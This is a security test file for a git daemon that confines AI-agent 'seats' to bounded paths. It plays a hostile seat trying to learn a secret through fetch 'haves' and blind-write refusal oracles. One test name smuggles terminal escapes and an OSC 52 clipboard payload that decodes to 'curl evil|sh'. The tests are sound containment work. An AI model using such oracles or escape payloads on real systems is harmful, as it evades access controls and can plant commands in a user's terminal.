import { execFileSync } from "node:child_process";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { appliedTeam } from "../support/applied-team.js";
import { evilGitPacking, freshFromTrunk, helperPush } from "../support/evil-git.js";
import { ensureSeatUser } from "../support/seat-user.js";
import { teamFile } from "../support/team-file.js";
import { type TeamdHarness } from "../support/teamd-harness.js";

/**
 * A hostile bounded seat (round fourteen, a sixth attacker): the fetch that follows a push (which
 * haves the daemon takes as the pack's bases), the replay of odd tree modes, a seat that may write
 * where it may not read (the replay's refusals about what it cannot see), what the owner's views
 * show of seat-chosen names, and honest bounded usage (renames, deletes, empty commits, odd
 * authors, dates and encodings).
 *
 * Seats: narrow (reads src/ and README.md, writes src/: replayed) and wo (reads src/ and
 * README.md, writes src/ and docs/: may write docs/ blind). The hub holds docs/secret.md with a
 * canary. Each case asserts the SECURE outcome: a failing case is a hole.
 *
 * Proves docs/enforcement.md's row "read / lab-visibility refusal (c5) (§3, §8)" for the fetch
 * side, blind writes and the owner's views.
 *
 * Found when written (open in round fourteen, closed in round fifteen): wo, which may write docs/
 * but not read it, learned which names docs/ holds from the replay's refusal. A folder pushed at
 * docs/secret.md/ was refused "push.bounded-merge: docs/secret.md: the repository has a file there
 * that you cannot read", one at docs/nosuch.md/ landed; "docs" pushed as a file was refused "docs:
 * the repository has a directory there that you cannot read" (apply() in
 * src/effects/git-filter.ts). Now both land, over whatever is there. Held: the fetch side (a
 * right guess of docs/secret.md rebuilt as the hub's commit and sent as a fetch's have leaves the
 * pack as it is: 9 objects right and wrong, 4 with the served commit as the have).
 */
const asRoot = process.getuid?.() === 0;
if (asRoot) ensureSeatUser();

const CANARY = "CANARY-wa6-51f3 never for narrow";
const WRONG = "CANARY-wa6-0000 never for narrow";

const TEAM_FILE = teamFile(`  narrow:
    lab: anthropic
    capabilities:
      read: { path: [src/, README.md] }
      write: { path: src/ }
    start:
      command: [sleep, "3600"]
  wo:
    lab: anthropic
    capabilities:
      read: { path: [src/, README.md] }
      write: { path: [src/, docs/] }
    start:
      command: [sleep, "3600"]
`);

/** Characters a view must never play to the owner's terminal raw: C0/C1 controls but LF, bidi controls, line/paragraph separators, zero-width space. */
const UNSAFE_SHOWN = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b\u200e\u200f\u2028-\u202e\u2066-\u2069]/u;

describe.runIf(process.platform === "linux")("attack 6: fetch haves after a push, blind writes, the owner's views, honest bounded usage", () => {
  let h: TeamdHarness;
  let main: string;
  const hubRef = (ref: string) => h.hubRef(ref);
  const normal = (text: string) =>
    text
      .replace(/\b[0-9a-f]{40}\b/g, "<oid>")
      .replace(/^teamd: pushed \d+ bytes to the daemon$/m, "")
      .trim();

  beforeAll(async () => {
    h = await appliedTeam("teamd-walk-attack6-", TEAM_FILE, {
      "README.md": "hello\n",
      "src/a.txt": "a\n",
      "docs/secret.md": `${CANARY}\n`,
    });
    await h.ok(["start", "--team", "proj"]);
    main = hubRef("refs/heads/main") as string;
    for (const seat of ["narrow", "wo"]) expect((await h.inSeat(seat, "git fetch -q teamd 2>&1 && git checkout -q --detach teamd/main")).code).toBe(0);
  }, 120_000);
  afterAll(async () => {
    await h?.cleanup();
  });

  // -------------------------------------------------------------------------------------------
  // The fetch's haves (shim/git-remote.ts: every local ref tip) are typed against the bounded
  // seat's mirror, whose alternates reach the HUB's objects: a have that is a hub commit is a
  // base of the pack (`F ^H`), so objects H reaches are left out. The filtered trunk commit keeps
  // the hub commit's author, committer and message byte for byte, so a seat that guesses the
  // content of what it cannot read (docs/secret.md) can build the hub commit H locally and name
  // it as a have (a local ref). Right guess: H is a commit the hub holds, the pack leaves out
  // src/ and README.md; wrong guess: the have is dropped, the pack carries them.

  it("narrow: a local ref at the hub commit rebuilt from a guess of docs/secret.md, as a fetch's have: the pack is the same whether the guess is right or wrong", async () => {
    // A branch of the seat's own on the trunk: the fetches want it (its objects are src/n.txt's and the trunk's).
    const pushed = await h.inSeat(
      "narrow",
      [
        freshFromTrunk("hv"),
        "printf 'n\\n' > src/n.txt && git add -A && git commit -qm hv",
        "git push -q teamd hv 2>&1",
        "git checkout -q --detach teamd/main",
      ].join(" && "),
    );
    expect(pushed.code, pushed.stdout).toBe(0);
    const count = "n=0; for i in .git/objects/pack/*.idx; do n=$((n + $(git show-index < $i | wc -l))); done; echo pack-objects $n";
    const probe = async (guess: string | undefined, tag: string) => {
      const r = await h.inSeat(
        "narrow",
        [
          "S=$PWD && git fetch -q teamd 2>&1 && F=$(git rev-parse teamd/main)",
          `P=/tmp/probe-${tag} && rm -rf $P && git init -q $P && git -C $P remote add teamd teamd::seat`,
          guess === undefined
            ? // Control: the seat's real have (the served trunk commit F, whole): haves do shrink the pack.
              "echo $F | git pack-objects --revs --stdout -q | git -C $P unpack-objects -q && git -C $P update-ref refs/have $F && cd $P"
            : [
                // The readable objects, loose (not the commit F itself): what the seat was served.
                "printf '%s\\n' $(git rev-parse $F:src) $(git rev-parse $F:src/a.txt) $(git rev-parse $F:README.md) | git pack-objects --stdout -q | git -C $P unpack-objects -q",
                `git cat-file commit $F > /tmp/fc-${tag}`,
                "cd $P",
                `G=$(printf '%s\\n' '${guess}' | git hash-object -w --stdin)`,
                "D=$(printf '100644 blob %s\\tsecret.md\\n' $G | git mktree)",
                "T=$(printf '100644 blob %s\\tREADME.md\\n040000 tree %s\\tdocs\\n040000 tree %s\\tsrc\\n' $(git -C $S rev-parse $F:README.md) $D $(git -C $S rev-parse $F:src) | git mktree)",
                `H=$(sed "1s/.*/tree $T/" /tmp/fc-${tag} | git hash-object -t commit -w --stdin)`,
                "git update-ref refs/guess $H && echo guess-commit $H",
              ].join(" && "),
          "git fetch -q teamd refs/heads/seat/narrow/hv 2>&1; echo fetch-exit $?",
          count,
        ].join(" && "),
      );
      return r.stdout + r.stderr;
    };
    const none = await probe(undefined, "c");
    const right = await probe(CANARY, "r");
    const wrong = await probe(WRONG, "w");
    const rightH = /guess-commit ([0-9a-f]{40})/.exec(right)?.[1];
    console.log(`[fetch haves oracle] hub main ${main}; right guess built ${rightH} (${rightH === main ? "= the hub's commit" : "not the hub's"})`);
    console.log(`[fetch haves oracle] control (have = served F): ${normal(none).replace(/\n/g, " / ")}`);
    console.log(`[fetch haves oracle] right guess: ${normal(right).replace(/\n/g, " / ")}`);
    console.log(`[fetch haves oracle] wrong guess: ${normal(wrong).replace(/\n/g, " / ")}`);
    expect(right).toContain("fetch-exit 0");
    expect(wrong).toContain("fetch-exit 0");
    expect(/pack-objects (\d+)/.exec(right)?.[1]).toBe(/pack-objects (\d+)/.exec(wrong)?.[1]);
  }, 60_000);

  // -------------------------------------------------------------------------------------------
  // wo may write docs/ but not read it: its pushes are replayed onto the hub's docs/ it never
  // saw. The replay's refusals ("a file there that you cannot read", "a directory there") hung
  // on what the hub holds at a path the seat cannot read: an oracle of names (and of whether a
  // path is a file or a folder) in docs/. Found open in round fourteen; now a write over what
  // the seat cannot see is decided on the policy alone (src/kernel/blind-write.ts), and wo's
  // write over docs/ goes over whatever is there (test/escape/blind-write.test.ts has more).
  it("wo (writes docs/ blind): a folder pushed at docs/secret.md/ (a file the hub holds) and at docs/nosuch.md/ (nothing): the same outcome", async () => {
    const said: string[] = [];
    const landed: Record<string, boolean> = {};
    for (const [label, path] of [
      ["held", "docs/secret.md/x.md"],
      ["absent", "docs/nosuch.md/x.md"],
    ] as const) {
      const branch = `wo-${label}`;
      const r = await h.inSeat(
        "wo",
        [
          freshFromTrunk(branch),
          `mkdir -p $(dirname ${path}) && printf 'x\\n' > ${path}`,
          `git add -A && git commit -qm ${branch}`,
          `git push teamd ${branch} 2>&1; echo push-exit $?`,
          "git checkout -q --detach teamd/main",
        ].join(" && "),
      );
      landed[label] = hubRef(`refs/heads/seat/wo/${branch}`) !== undefined;
      said.push(
        `[wo ${path}] ${landed[label] ? "LANDED" : "refused"}: ${normal(r.stdout + r.stderr)
          .replace(new RegExp(branch, "g"), "X")
          .replace(/\n/g, " / ")}`,
      );
    }
    console.log(said.join("\n"));
    expect(landed.held).toBe(landed.absent);
    expect(said[0]?.replace(/secret\.md/g, "N")).toBe(said[1]?.replace(/nosuch\.md/g, "N").replace("absent", "held"));
    // Both land: wo's write reaches docs/, so its folder goes over the file it never saw.
    expect(landed.held).toBe(true);
    const tip = hubRef("refs/heads/seat/wo/wo-held") as string;
    expect(h.hubGit("ls-tree", "-r", "--name-only", tip, "docs/")).toBe("docs/secret.md/x.md");
    expect(h.hubGit("cat-file", "blob", `${main}:docs/secret.md`)).toBe(CANARY);
  }, 60_000);

  it("wo: a new file docs/new.md lands beside docs/secret.md (kept), and wo's fetch of its branch serves nothing of docs/", async () => {
    const r = await h.inSeat(
      "wo",
      [
        freshFromTrunk("wo-new"),
        "mkdir -p docs && printf 'new\\n' > docs/new.md && git add -A && git commit -qm wo-new",
        "git push teamd wo-new 2>&1; echo push-exit $?",
        "git fetch -q teamd 2>&1 && git ls-tree -r --name-only teamd/seat/wo/wo-new",
        "git cat-file --batch-all-objects --batch | grep -c CANARY-wa6-51f3 || true",
        "git checkout -q --detach teamd/main",
      ].join(" && "),
    );
    console.log(`[wo docs/new.md] ${normal(r.stdout + r.stderr).replace(/\n/g, " / ")}`);
    const tip = hubRef("refs/heads/seat/wo/wo-new");
    if (tip !== undefined) {
      expect(h.hubGit("cat-file", "blob", `${tip}:docs/secret.md`)).toBe(CANARY);
      expect(r.stdout).not.toContain("docs/new.md");
    }
    expect(r.stdout).not.toMatch(/^[1-9]\d*$/m);
  }, 60_000);

  // -------------------------------------------------------------------------------------------
  // Odd modes the replay and git might read differently: a zero-padded file mode (0100644) on
  // README.md (readable, not writable; same blob), a zero-padded folder mode (040000) on src.

  it("narrow: README.md at mode 0100644 and src at 040000 (zero-padded), built raw: refused, or landed with README.md the trunk's 100644 blob", async () => {
    const r = await h.inSeat(
      "narrow",
      [
        freshFromTrunk("zpad"),
        "printf 'z\\n' > src/z.txt && git add -A",
        "S=$(git write-tree --prefix=src/) && R=$(git rev-parse HEAD:README.md)",
        // A raw tree: mode, space, name, NUL, 20 bytes of id; sorted by name.
        "t=$({ printf '0100644 README.md\\0'; printf '%s' $R | xxd -r -p; printf '040000 src\\0'; printf '%s' $S | xxd -r -p; } | git hash-object -t tree -w --stdin --literally)",
        "c=$(git commit-tree $t -p HEAD -m zpad) && git update-ref refs/heads/zpad $c",
        evilGitPacking("$c $t $S $(git rev-parse $S:z.txt)"),
        helperPush("zpad"),
        "git checkout -q --detach teamd/main; git reset -q",
      ].join(" && "),
    );
    console.log(`[zero-padded modes] ${normal(r.stdout + r.stderr).replace(/\n/g, " / ")}`);
    const tip = hubRef("refs/heads/seat/narrow/zpad");
    if (tip !== undefined) {
      const top = h.hubGit("ls-tree", tip);
      console.log(`[zero-padded modes] LANDED: ${top.replace(/\n/g, " | ")}`);
      expect(top).toMatch(/^100644 blob [0-9a-f]{40}\tREADME\.md$/m);
      expect(h.hubGit("cat-file", "blob", `${tip}:docs/secret.md`)).toBe(CANARY);
    }
    expect(r.stdout).not.toMatch(/internal|unknown-outcome/);
  }, 60_000);

  // -------------------------------------------------------------------------------------------
  // The owner's views: names a seat chooses (a path outside its scope, refused with it in the
  // words; a path inside, landed; a ref name) holding terminal controls, bidi overrides and line
  // separators. `teamd log`, `teamd status` and `teamd notices` must show none raw.

  it("paths and ref names with ESC, OSC 52, CR, U+202E, U+2028, U+200B, pushed (refused and landed): teamd log, status and notices show none of them raw", async () => {
    const evilName = "x\u001b]52;c;Y3VybCBldmlsfHNo\u0007\r\u202eFORGED\u2028line\u200b";
    const b64 = Buffer.from(evilName).toString("base64");
    const r = await h.inSeat(
      "narrow",
      [
        freshFromTrunk("ctl"),
        `N=$(echo ${b64} | base64 -d)`,
        'mkdir -p lib && printf o > "lib/$N" && git add -A && git commit -qm ctl && git push teamd ctl 2>&1; echo push-exit $?',
        freshFromTrunk("ctl2"),
        'printf i > "src/$N" && git add -A && git commit -qm ctl2 && git push teamd ctl2 2>&1; echo push-exit $?',
        // The ref name straight to the helper (git's refspec check would stop it in the seat).
        'printf "list for-push\\npush HEAD:refs/heads/r%s\\n\\n" "$N" | git-remote-teamd teamd teamd::seat 2>&1; echo helper-exit $?',
        "git checkout -q --detach teamd/main",
      ].join("; "),
    );
    console.log(`[controls in names] ${JSON.stringify(normal(r.stdout + r.stderr)).slice(0, 1500)}`);
    const records = JSON.stringify(await h.records());
    console.log(`[controls in names] the record holds the seat's name: ${records.includes("FORGED")}`);
    for (const view of [["log"], ["status"], ["notices"], ["log", "--json"]]) {
      const shown = await h.run(view);
      const out = shown.stdout + shown.stderr;
      const bad = UNSAFE_SHOWN.exec(out);
      expect
        .soft(
          bad,
          `teamd ${view.join(" ")} shows ${JSON.stringify(bad?.[0])} raw near ${JSON.stringify(out.slice(Math.max(0, (bad?.index ?? 0) - 40), (bad?.index ?? 0) + 40))}`,
        )
        .toBeNull();
    }
  }, 60_000);

  // -------------------------------------------------------------------------------------------
  // Honest bounded usage: each lands, docs/secret.md kept on the landed branch, the commit's
  // message, author and encoding kept byte for byte.

  const honest: readonly [string, string][] = [
    ["rename within src/ (git mv)", "git mv src/a.txt src/b.txt && git commit -qm mv"],
    ["rename into a new folder of src/", "mkdir -p src/deep/er && git mv src/a.txt src/deep/er/a.txt && git commit -qm mv2"],
    ["delete the only file of src/ (src/ goes)", "git rm -q src/a.txt && git commit -qm rm"],
    ["an empty commit", "git commit -q --allow-empty -m empty"],
    ["an empty message", "printf e > src/e.txt && git add -A && git commit -q --allow-empty-message -m ''"],
    [
      "a message without a final newline",
      "printf m > src/m.txt && git add -A && printf 'no newline' > /tmp/msg && git commit -q --cleanup=verbatim -F /tmp/msg",
    ],
    [
      "an ISO-8859-1 message (encoding header)",
      "printf l > src/l.txt && git add -A && printf 'caf\\351 na\\357ve\\n' > /tmp/msg && git -c i18n.commitEncoding=ISO-8859-1 commit -q -F /tmp/msg",
    ],
    [
      "an author with non-ASCII name, dates in 1970 and 2099, odd zones",
      "printf d > src/d.txt && git add -A && GIT_AUTHOR_NAME='Zoë Ünïcødé 山田' GIT_AUTHOR_DATE='@1 -1200' GIT_COMMITTER_DATE='@4102444800 +1400' git commit -qm dates",
    ],
    ["executable bit on src/a.txt", "chmod +x src/a.txt && git add -A && git commit -qm x"],
    ["a symlink in src/", "ln -s a.txt src/link && git add -A && git commit -qm link"],
    ["a file becomes a folder of the same name", "git rm -q src/a.txt && mkdir -p src/a.txt && printf f > src/a.txt/f && git add -A && git commit -qm swap"],
    ["a commit that adds then one that deletes", "printf t > src/t.txt && git add -A && git commit -qm add && git rm -q src/t.txt && git commit -qm del"],
    ["a revert of a seat commit", "printf v > src/v.txt && git add -A && git commit -qm v && git revert --no-edit HEAD >/dev/null"],
  ];
  for (const [label, script] of honest) {
    it(`honest narrow: ${label} lands, docs/secret.md kept, the commit's bytes but tree and parents kept`, async () => {
      const branch = `hon-${label
        .replace(/[^a-z0-9]+/gi, "-")
        .slice(0, 40)
        .replace(/-+$/, "")}`;
      const r = await h.inSeat(
        "narrow",
        [
          freshFromTrunk(branch),
          script,
          `git push teamd ${branch} 2>&1; echo push-exit $?`,
          `git cat-file commit ${branch} | base64 -w0; echo`,
          "git checkout -q --detach teamd/main",
        ].join(" && "),
      );
      const out = r.stdout + r.stderr;
      const tip = hubRef(`refs/heads/seat/narrow/${branch}`);
      if (tip === undefined || !out.includes("push-exit 0")) console.log(`[honest ${label}] ${normal(out).replace(/\n/g, " / ")}`);
      expect(out).not.toMatch(/internal|unknown-outcome/);
      // A deliberate rule (push.commit-text: commit text must be UTF-8) is reported, not a hole.
      if (label.startsWith("an ISO-8859-1") && /push\.commit-text/.test(out)) return;
      expect(out).toContain("push-exit 0");
      expect(tip).toBeDefined();
      expect(h.hubGit("cat-file", "blob", `${tip}:docs/secret.md`)).toBe(CANARY);
      const mine = Buffer.from(/^([A-Za-z0-9+/=]{40,})$/m.exec(r.stdout)?.[1] ?? "", "base64").toString("latin1");
      const theirs = execFileSync("git", ["--git-dir", h.hub, "cat-file", "commit", tip as string], { encoding: "latin1" });
      const strip = (c: string) => c.replace(/^(tree|parent) [0-9a-f]{40}\n/gm, "");
      expect(strip(theirs)).toBe(strip(mine));
    }, 60_000);
  }

  it("control, after the attacks: the trunk untouched, the hub's objects whole", () => {
    expect(hubRef("refs/heads/main")).toBe(main);
    execFileSync("git", ["--git-dir", h.hub, "fsck", "--connectivity-only", "--no-dangling"], { stdio: "ignore" });
  });
});
